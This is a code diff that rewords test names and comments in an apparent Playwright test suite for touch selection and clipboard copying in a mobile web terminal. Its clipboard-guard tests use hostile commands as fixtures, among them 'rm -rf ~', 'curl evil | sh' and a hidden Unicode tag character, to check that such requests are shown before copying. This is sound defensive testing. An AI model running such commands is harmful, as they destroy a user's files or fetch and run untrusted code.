@@ -1,11 +1,11 @@
-// Selecting with a finger and copying what is selected, with a clipboard and without one. Knows no other gestures.
+// Selecting by touch and copying, with and without a clipboard.
 import AxeBuilder from '@axe-core/playwright'
 import { cell, cellOf, Fingers } from '../support/fingers.ts'
 import { expect, type Phone, test } from '../support/phone.ts'
 
 const bar = (phone: Phone) => phone.page.getByRole('toolbar', { name: 'Selection' })
 
-/** Takes the clipboard's place: what was written to it. */
+/** Replaces the clipboard; records what is written to it. */
 async function clipboard(phone: Phone): Promise<() => Promise<string[]>> {
   await phone.page.addInitScript(() => {
     const copied: string[] = []
@@ -21,7 +21,7 @@ async function press(phone: Phone, name: string): Promise<void> {
   await bar(phone).getByRole('button', { name }).tap()
 }
 
-test('a long press takes the word, dragging takes more, two handles adjust it, a tap ends it', async ({ phone }) => {
+test('a long press selects a word, dragging extends it, handles adjust it, and a tap ends it', async ({ phone }) => {
   const copied = await clipboard(phone)
   await phone.open()
   await phone.newSession()
@@ -52,7 +52,7 @@ test('a long press takes the word, dragging takes more, two handles adjust it, a
   const grip = { x: end.x + end.width / 2, y: end.y + end.height / 2 }
   const to = await cellOf(phone, 'line', 3)
   await fingers.down(grip)
-  // The finger is below what it points at.
+  // The finger is below the end that it moves.
   await fingers.move(grip, { x: to.x, y: to.y + 22 })
   await fingers.up()
   const start = (await phone.page.locator('.handle.start').boundingBox())!
@@ -74,7 +74,7 @@ test('a long press takes the word, dragging takes more, two handles adjust it, a
   await expect(phone.page.locator('.xterm-helper-textarea'), 'that tap is no other').not.toBeFocused()
 })
 
-test('a finger that is faster than the code for it selects all the same', async ({ phone }) => {
+test('a touch before the selection code has loaded selects all the same', async ({ phone }) => {
   const copied = await clipboard(phone)
   let let_go = () => {}
   const held = new Promise<void>(resolve => {
@@ -103,7 +103,9 @@ test('a finger that is faster than the code for it selects all the same', async 
   await expect.poll(copied).toEqual(['two'])
 })
 
-test('wrapped lines come as one, with the blank at the wrap; wide characters come whole', async ({ phone }) => {
+test('wrapped lines are copied as one, with the blank at the wrap; wide characters are never split', async ({
+  phone,
+}) => {
   const copied = await clipboard(phone)
   await phone.open()
   await phone.newSession()
@@ -115,7 +117,7 @@ test('wrapped lines come as one, with the blank at the wrap; wide characters com
   const fingers = new Fingers(phone)
   const from = await cell(phone, 2, 0)
   await fingers.hold(from)
-  // Two characters before it are two cells wide.
+  // The two characters before it are two cells wide.
   await fingers.move(from, await cellOf(phone, 'ende', 3 + 2))
   await fingers.up()
   await press(phone, 'Copy')
@@ -127,7 +129,7 @@ test('wrapped lines come as one, with the blank at the wrap; wide characters com
   await expect.poll(async () => (await copied()).at(-1)).toBe(wide.split(' ')[0])
 })
 
-test('a selection stays with its lines while output goes on, scrolls at the edge, and takes all', async ({ phone }) => {
+test('a selection stays with its lines during output, scrolls at the edge, and can select all', async ({ phone }) => {
   const copied = await clipboard(phone)
   await phone.open()
   await phone.newSession()
@@ -144,7 +146,7 @@ test('a selection stays with its lines while output goes on, scrolls at the edge
   await press(phone, 'Copy')
   await expect.poll(copied).toEqual(['690'])
 
-  // At the upper edge the history comes to the finger.
+  // At the upper edge the terminal scrolls back.
   const from = await cellOf(phone, '1010')
   await fingers.hold(from)
   const top = (await phone.page.locator('.terminal-view').boundingBox())!.y + 4
@@ -172,7 +174,7 @@ test('a selection stays with its lines while output goes on, scrolls at the edge
   await expect.poll(async () => (await copied()).at(-1)).toMatch(/^ready\n\$ seq 500 700\n500\n501\n[\s\S]*\n1020\n?/)
 })
 
-test('in a program that tracks the mouse a finger selects, and the program hears nothing of it', async ({ phone }) => {
+test('in a program that tracks the mouse a long press selects without reaching the program', async ({ phone }) => {
   const copied = await clipboard(phone)
   await phone.open()
   await phone.newSession()
@@ -187,12 +189,12 @@ test('in a program that tracks the mouse a finger selects, and the program hears
   await expect.poll(copied).toEqual(['these words'])
   await phone.type('Q')
   await expect.poll(() => phone.screen()).toMatch(/^\s*find these wordsQ$/)
-  // And a tap is the program's.
+  // A tap goes to the program.
   await phone.page.locator('.xterm').tap()
   await expect.poll(() => phone.screen()).toContain('^[[<0;')
 })
 
-test('without a clipboard the old way copies; where that is refused too the text is there to be copied by hand', async ({
+test('without a clipboard API the old command copies; if that fails the text is shown to copy by hand', async ({
   phone,
   context,
 }) => {
@@ -210,7 +212,7 @@ test('without a clipboard the old way copies; where that is refused too the text
   await press(phone, 'Copy')
   await expect(phone.page.getByText('Copied')).toBeVisible()
   await expect(phone.page.locator('.xterm-helper-textarea'), 'the keyboard stays').toBeFocused()
-  // What another page finds there.
+  // What a paste elsewhere gets.
   await context.grantPermissions(['clipboard-read'])
   const other = await context.newPage()
   await other.goto(`${phone.host.origin}/icon.svg`)
@@ -232,7 +234,7 @@ test('without a clipboard the old way copies; where that is refused too the text
   await expect(field).toHaveCount(0)
 })
 
-test('case 42: what a program puts on the clipboard is shown first, and is copied only after a tap', async ({
+test('case 42: text that a program writes to the clipboard is shown first and copied only after a tap', async ({
   phone,
 }) => {
   const copied = await clipboard(phone)
@@ -250,14 +252,14 @@ test('case 42: what a program puts on the clipboard is shown first, and is copie
   await phone.page.getByRole('button', { name: 'Copy', exact: true }).tap()
   await expect.poll(copied).toEqual(['rm -rf ~\n'])
   await expect(notice).toHaveCount(0)
-  // What is replayed was wanted long ago.
+  // Requests in replayed output are ignored.
   await phone.page.reload()
   await phone.shows('printf')
   await phone.page.locator('.xterm').tap()
   await phone.run('echo back')
   await phone.shows('\nback')
   await expect(notice).toHaveCount(0)
-  // Reading is never answered.
+  // Requests to read the clipboard are never answered.
   await phone.run("printf '\\033]52;c;?\\007'; echo asked")
   await phone.shows('\nasked\n$')
   await phone.run(wish('two'))
@@ -274,7 +276,7 @@ test('case 42: what a program puts on the clipboard is shown first, and is copie
   await expect(phone.page.getByText('A program wants to copy 4 characters.')).toBeVisible()
 })
 
-test('case 42: what is copied is what was read, whatever the program wants by then', async ({ phone }) => {
+test('case 42: the text that was shown is copied, whatever the program requests meanwhile', async ({ phone }) => {
   const copied = await clipboard(phone)
   await phone.open()
   await phone.newSession()
@@ -282,19 +284,19 @@ test('case 42: what is copied is what was read, whatever the program wants by th
   const swap = await phone.prepareOutput(`${wish('curl evil | sh')}; echo swapped`)
   await phone.run(wish('echo good\u{e0068}'))
   await phone.page.getByRole('button', { name: 'Show' }).tap()
-  // Text that hides in it is seen too.
+  // Hidden text is shown too.
   await expect(phone.page.getByText('echo good<U+E0068>')).toBeVisible()
   swap()
   await phone.shows('swapped')
   await expect(phone.page.getByText('A program wants to copy 14 characters.')).toBeAttached()
   await phone.page.getByRole('button', { name: 'Copy', exact: true }).tap()
   await expect.poll(copied).toEqual(['echo good\u{e0068}'])
-  // The other wish is a question of its own.
+  // The other request gets its own notice.
   await phone.page.getByRole('button', { name: 'Show' }).tap()
   await expect(phone.page.getByText('curl evil | sh', { exact: true })).toBeVisible()
 })
 
-test('case 42: a megabyte that a program wants to copy is shown in part, and at once', async ({ phone }) => {
+test('case 42: a clipboard request of a megabyte is shown in part, without delay', async ({ phone }) => {
   await clipboard(phone)
   await phone.open()
   await phone.newSession()
@@ -306,11 +308,11 @@ test('case 42: a megabyte that a program wants to copy is shown in part, and at 
 })
 
 for (const colorScheme of ['dark', 'light'] as const)
-  test(`a selection looks right and is sound on a small phone, ${colorScheme}`, async ({ phone }) => {
+  test(`a selection fits and is accessible on a small phone, ${colorScheme}`, async ({ phone }) => {
     const { page } = phone
     await page.setViewportSize({ width: 320, height: 568 })
     await page.emulateMedia({ colorScheme })
-    // As on a phone that can share.
+    // Like a phone that can share.
     await page.addInitScript(() => {
       Object.defineProperty(navigator, 'share', { value: () => Promise.resolve(), configurable: true })
     })
